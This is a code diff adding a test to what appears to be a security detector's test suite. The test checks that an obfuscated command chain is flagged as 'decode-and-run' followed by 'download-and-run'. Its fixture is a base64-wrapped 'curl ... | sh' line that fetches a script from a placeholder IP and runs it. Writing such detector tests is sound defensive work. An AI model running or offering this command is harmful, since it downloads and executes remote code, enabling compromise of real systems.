@@ -35,6 +35,16 @@ test('shares nothing with what it was made from', async () => {
   expect(judgement.story.starts.length).toBeGreaterThan(0);
 });
 
+test('says which findings tell one story', async () => {
+  const cmd = ['sh', '-c', `echo ${btoa('curl -s http://203.0.113.9/x.sh | sh')} | base64 -d | sh`];
+  const report = await reportOf({ cmd });
+  expect(report.chains).toEqual([{ id: report.findings[0]?.id, head: 0, steps: [0, 1] }]);
+  expect(report.findings.map(({ detector, chain }) => [detector, chain])).toEqual([
+    ['decode-and-run', 0],
+    ['download-and-run', 0],
+  ]);
+});
+
 describe('a gap', () => {
   test('of the facts or of the story makes the result incomplete, never clear', async () => {
     const judgement = await sceneOf(example);
